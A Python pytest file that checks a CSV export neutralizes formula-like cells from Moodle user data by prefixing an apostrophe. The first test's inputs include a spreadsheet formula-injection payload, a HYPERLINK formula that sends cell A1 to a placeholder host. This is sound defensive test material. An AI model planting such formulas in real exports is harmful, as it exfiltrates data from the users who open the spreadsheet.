"""CSV cells that a spreadsheet would run as formulas (names and answers come from Moodle users) are written inert."""

from __future__ import annotations

import csv
import io

import pytest

from lms_sync.reports.csv_output import csv_text


@pytest.mark.parametrize("cell", ['=HYPERLINK("http://x.example/?"&A1,"click")', "+49 30 1234", "-2+3", "@SUM(A1:A9)",
                                  "\t=1+1", "\r=1+1"])
def test_formula_like_text_gets_a_leading_apostrophe(cell):
    [row] = list(csv.reader(io.StringIO(csv_text([cell], []))))
    assert row == ["'" + cell]


@pytest.mark.parametrize("cell", ["-0.5", "-3", "Bezirksamt = Verwaltung", "k.wegener@bezirksamt.example.org", 3, -2.5])
def test_plain_numbers_and_ordinary_text_are_unchanged(cell):
    [_, row] = list(csv.reader(io.StringIO(csv_text(["h"], [[cell]]))))
    assert row == [str(cell)]
